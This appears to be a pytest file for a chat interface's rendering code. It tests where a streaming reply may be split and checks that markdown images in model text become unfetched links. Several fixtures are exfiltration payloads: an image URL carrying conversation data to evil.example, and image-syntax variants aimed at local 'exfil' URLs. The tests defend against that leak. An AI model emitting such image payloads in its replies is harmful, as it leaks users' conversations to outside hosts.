"""Where a streaming reply may be frozen: never inside a code block, only for long texts."""

import pytest

from qwenchat.rendering import stable_split


def test_short_text_is_never_split():
    assert stable_split("para one\n\npara two", min_tail=100) == 0


def test_long_text_splits_at_a_blank_line_and_keeps_a_tail():
    text = ("段落内容。" * 40 + "\n\n") * 30
    cut = stable_split(text, min_tail=500)
    assert cut > 0 and text[cut - 2:cut] == "\n\n"
    assert len(text) - cut >= 250


def test_never_splits_inside_a_fenced_code_block():
    code = "```python\n" + "\n\n".join(f"x{i} = {i}" for i in range(400)) + "\n"
    text = "intro\n\n" + code  # the fence is still open
    cut = stable_split(text, min_tail=200)
    assert cut in (0, len("intro\n\n"))


def test_a_reply_with_no_blank_lines_is_not_split():
    assert stable_split("数据" * 10_000, min_tail=2000) == 0


def test_images_in_model_text_become_links_the_browser_does_not_fetch():
    from qwenchat.rendering import images_as_links

    text = "see ![secret](https://evil.example/x?q=conversation) and ![](http://a/b.png) but [a](b) stays"
    out = images_as_links(text)
    assert "![" not in out
    assert "[🖼️ secret](https://evil.example/x?q=conversation)" in out and "[🖼️ image](http://a/b.png)" in out
    assert out.endswith("[a](b) stays")


@pytest.mark.parametrize("text", [
    "![line1\nline2](http://127.0.0.1:1/exfil1.png)",         # alt text over two lines
    "![a [b] c](http://127.0.0.1:1/exfil2.png)",               # brackets nested in the alt text
    "![x][r]\n\n[r]: http://127.0.0.1:1/exfil3.png",          # reference-style
    "![r]\n\n[r]: http://127.0.0.1:1/exfil4.png",             # shortcut reference
    "![][r]\n\n[r]: http://127.0.0.1:1/exfil5.png",           # empty alt, reference
    "!![x](http://127.0.0.1:1/exfil6.png)",                   # a run of '!' (the second review)
    "!!![]( http://127.0.0.1:1/exfil7.png)",
])
def test_no_image_syntax_survives_whatever_its_form(text):
    from qwenchat.rendering import images_as_links

    out = images_as_links(text)
    assert "![" not in out
    assert "🖼️" in out and "http://127.0.0.1:1/exfil" in out  # still there, as a link to follow
